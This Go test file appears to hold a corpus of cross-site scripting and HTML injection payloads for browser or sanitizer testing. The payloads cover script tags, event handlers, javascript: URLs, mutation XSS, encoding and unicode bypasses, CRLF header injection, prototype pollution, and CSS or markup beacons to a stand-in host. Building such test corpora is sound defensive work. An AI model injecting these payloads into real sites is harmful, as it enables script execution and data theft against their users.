package browsertest

import (
	"fmt"
	"strings"
)

// Payload is a text that a careless page would take for more than text.
type Payload struct {
	Context string // what it tries to break out of, or into
	Text    string // PX stands for the mark of the input that it is written into
}

// Put is the payload with the input's mark in it. A mark is letters and digits.
func (p Payload) Put(mark string) string { return strings.ReplaceAll(p.Text, "PX", mark) }

// Payloads is the corpus. Whatever runs calls pxm with the input's mark;
// whatever becomes markup carries the attribute data-px; whatever is fetched is
// fetched from elsewhere.example, a name that is never resolved.
var Payloads = []Payload{
	// Text of an element.
	{"text", `PX<script data-px>pxm("PX")</script>`},
	{"text", `PX<SCRIPT data-px SRC=//elsewhere.example/PX.js></SCRIPT>`},
	{"text", `PX<img data-px src=x onerror=pxm("PX")>`},
	{"text", `PX<body data-px onload=pxm("PX")>`},
	{"text", `PX<details data-px open ontoggle=pxm("PX")>x`},
	{"text", `PX<video data-px><source onerror=pxm("PX")></video>`},
	{"text", `PX<iframe data-px srcdoc="<script>parent.pxm('PX')</script>"></iframe>`},
	{"text", `PX<input data-px autofocus onfocus=alert("PX")>`},
	{"text", `PX<dialog data-px open onbeforetoggle=pxm("PX")>x</dialog>`},
	{"text", `PX</title><script data-px>pxm("PX")</script>`},
	{"text", `PX</textarea><script data-px>pxm("PX")</script>`},
	{"text", `PX</select></option><script data-px>pxm("PX")</script>`},
	{"text", `PX--><script data-px>pxm("PX")</script>`},
	{"text", `PX]]><script data-px>pxm("PX")</script>`},
	{"text", `PX</script><script data-px>alert("PX")</script>`},
	{"text", `PX<noscript><p title="</noscript><img data-px src=x onerror=pxm('PX')>">`},
	{"text", `PX<plaintext data-px>`},
	{"text", `PX<!--<img src="--><img data-px src=x onerror=pxm("PX")//">`},

	// Value of an attribute.
	{"attribute", `PX" autofocus onfocus=pxm("PX") data-px="`},
	{"attribute", `PX' autofocus onfocus=pxm('PX') data-px='`},
	{"attribute", `PX autofocus onfocus=pxm(1) data-px=x`},
	{"attribute", `PX"><img data-px src=x onerror=pxm("PX")>`},
	{"attribute", `PX'><svg data-px onload=pxm('PX')>`},
	{"attribute", "PX`><img data-px src=x onerror=pxm(`PX`)>"},
	{"attribute", `PX" style="animation:px 1s" onanimationstart=pxm("PX") data-px="`},
	{"attribute", `PX" formaction="javascript:pxm('PX')" data-px="`},
	{"attribute", `PX" id="main" tabindex=1 onfocus=pxm("PX") autofocus data-px="`},
	{"attribute", `PX\" onmouseover=\"pxm('PX')\" data-px=\"`},
	{"attribute", `PX" contenteditable onbeforeinput="pxm(1)" popover data-px x="`},

	// An address.
	{"address", `javascript:pxm("PX")`},
	{"address", `JaVaScRiPt:pxm("PX")//`},
	{"address", "\tjava\nscript:pxm(\"PX\")"},
	{"address", "\x01javascript:pxm('PX')"},
	{"address", `&#106;avascript:pxm('PX')`},
	{"address", `javascript&colon;pxm('PX')`},
	{"address", `javascript://%0apxm('PX')`},
	{"address", `data:text/html,<script>opener.pxm('PX')</script>`},
	{"address", `data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHhtKDEpPC9zY3JpcHQ+PX`},
	{"address", `vbscript:pxm("PX")`},
	{"address", `//elsewhere.example/PX`},
	{"address", `https://elsewhere.example/PX`},
	{"address", `/\elsewhere.example/PX`},
	{"address", `https:elsewhere.example/PX`},
	{"address", `///elsewhere.example/PX`},

	// A template, on this side or in a script.
	{"template", `PX{{.}}{{template "layout" .}}{{printf "%#v" .}}`},
	{"template", `PX{{define "cell"}}<img data-px src=x onerror=pxm("PX")>{{end}}`},
	{"template", `PX${pxm("PX")}#{pxm("PX")}<%= pxm("PX") %>`},
	{"template", `PX{{constructor.constructor('pxm("PX")')()}}`},
	{"template", `PX[[${pxm('PX')}]]{% raw %}{%%}{#`},
	{"template", `PX%s%n%!d(string=%#v)`},

	// SVG and mathematics, and what parsers make of them the second time.
	{"svg", `PX<svg data-px onload=pxm("PX")>`},
	{"svg", `PX<svg data-px><script>pxm("PX")</script></svg>`},
	{"svg", `PX<svg data-px><animate onbegin=pxm("PX") attributeName=x dur=1s>`},
	{"svg", `PX<svg data-px><a xlink:href="javascript:pxm('PX')"><text y=9>x</text></a></svg>`},
	{"svg", `PX<svg data-px><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x"></svg>`},
	{"svg", `PX</text></svg><img data-px src=x onerror=pxm("PX")>`},
	{"svg", `PX</desc></title><script data-px>pxm("PX")</script>`},
	{"mutation", `PX<math><mtext><table><mglyph><style><!--</style><img data-px title="--&gt;&lt;img src=1 onerror=pxm(1)&gt;">`},
	{"mutation", `PX<svg></p><style><a id="</style><img data-px src=1 onerror=pxm('PX')>">`},
	{"mutation", `PX<form><math><mtext></form><form><mglyph><style></math><img data-px src onerror=pxm("PX")>`},
	{"mutation", `PX<template shadowrootmode=open data-px><script>pxm("PX")</script></template>`},
	{"mutation", `PX<table><td data-px><a><td><style></a><img src=x onerror=pxm("PX")>`},
	{"mutation", `PX<select data-px><iframe><option></select><script>pxm("PX")</script>`},

	// Encoded once or twice.
	{"encoded", `PX&lt;script data-px&gt;pxm("PX")&lt;/script&gt;`},
	{"encoded", `PX&#60;img data-px src=x onerror=pxm("PX")&#62;`},
	{"encoded", `PX&#x3c;img data-px src=x onerror=pxm("PX")&#x3e;`},
	{"encoded", `PX&amp;lt;img data-px src=x onerror=pxm("PX")&amp;gt;`},
	{"encoded", `PX%3Cscript data-px%3Epxm("PX")%3C/script%3E`},
	{"encoded", `PX\u003cscript data-px\u003epxm("PX")\u003c/script\u003e`},
	{"encoded", `PX\x3cimg data-px src=x onerror=pxm("PX")\x3e`},
	{"encoded", `PX&quot; onfocus=pxm(1) autofocus data-px=&quot;`},
	{"encoded", `PX&NewLine;&lt&Tab;script data-px&gt`},

	// Characters that become others, or are none.
	{"unicode", "PX\uff1cscript data-px\uff1epxm(\uff02PX\uff02)\uff1c/script\uff1e"},
	{"unicode", "PX\xc0\xbcscript data-px\xc0\xbepxm(1)\xc0\xbc/script\xc0\xbe"},
	{"unicode", "PX\xe0\x80\xbcimg data-px src=x onerror=pxm(1)\xe0\x80\xbe"},
	{"unicode", "PX+ADw-script data-px+AD4-pxm(1)+ADw-/script+AD4-"},
	{"unicode", "PX\u2028<img data-px src=x onerror=pxm('PX')>\u2029"},
	{"unicode", "PX\u202e>tpircs<\u202d<script data-px>pxm('PX')</script>"},
	{"unicode", "\ufeffPX<script data-px>pxm('PX')</script>"},
	{"unicode", "PX<\u017fcript data-px>pxm('PX')</\u017fcript>"},
	{"unicode", "PX\u02ba onfocus=pxm(1) autofocus data-px=\u02ba"},
	{"unicode", "PX\x1b(J\\x3cimg data-px src=x onerror=pxm(1)\\x3e\x1b(B"},
	{"unicode", "PX\xff\xfe<\x00i\x00m\x00g\x00 \x00d\x00a\x00t\x00a\x00-\x00p\x00x\x00"},

	// New lines and zeros.
	{"control", "PX<scr\x00ipt data-px>pxm('PX')</scr\x00ipt>"},
	{"control", "PX\x00<img data-px src=x onerror=pxm('PX')>"},
	{"control", "PX<img\x0cdata-px\x0csrc=x\x0conerror=pxm('PX')>"},
	{"control", "PX<img data-px src=x\r\nonerror\r\n=\r\npxm('PX')>"},
	{"control", "PX\r\nSet-Cookie: px=PX\r\nContent-Type: text/html\r\n\r\n<script data-px>pxm('PX')</script>"},
	{"control", "\n\n<img data-px src=x onerror=pxm('PX')>PX"},
	{"control", "PX\x7f\x80\x9f<b data-px>"},

	// Names that objects have already.
	{"object", `__proto__[innerHTML]=<img data-px src=x onerror=pxm("PX")>PX`},
	{"object", `{"__proto__":{"px":"PX"},"constructor":{"prototype":{"px":1}}}`},
	{"object", `PX<a data-px id=keys></a><a data-px id=keys name=open>`},
	{"object", `PX<form data-px id=problems><input name=attributes><input name=focus></form>`},
	{"object", `PX<img data-px name=querySelector><img data-px name=body>`},

	// The whole page: where it goes, what it loads, what it sends.
	{"page", `PX<meta data-px http-equiv=refresh content="0;url=//elsewhere.example/PX">`},
	{"page", `PX<base data-px href=//elsewhere.example/>`},
	{"page", `PX<link data-px rel=stylesheet href=//elsewhere.example/PX.css>`},
	{"page", `PX<form data-px action=//elsewhere.example/PX><button autofocus>x</button></form>`},
	{"page", `PX<img data-px src='//elsewhere.example/?PX=`},
	{"page", `PX<object data-px data=//elsewhere.example/PX></object><embed data-px src=//elsewhere.example/PX>`},
	{"page", `PX<meta data-px http-equiv=Content-Security-Policy content="script-src *">`},
	{"page", `PX<a data-px href=//elsewhere.example/PX ping=//elsewhere.example/PX>x</a>`},

	// Styles.
	{"style", `PX</style><style data-px>*{background:url(//elsewhere.example/PX)}</style>`},
	{"style", `PX<p data-px style="background:url(//elsewhere.example/PX)">x</p>`},
	{"style", `PX;background:url(//elsewhere.example/PX);x:expression(pxm('PX'))`},
	{"style", `PX"}*{background:url(//elsewhere.example/PX)}@import '//elsewhere.example/PX';`},

	// Depth.
	{"depth", "PX" + strings.Repeat("<b data-px><i>", 40)},
}

// Mark is the mark of the nth input.
func Mark(n int) string { return fmt.Sprintf("px%03dq", n) }
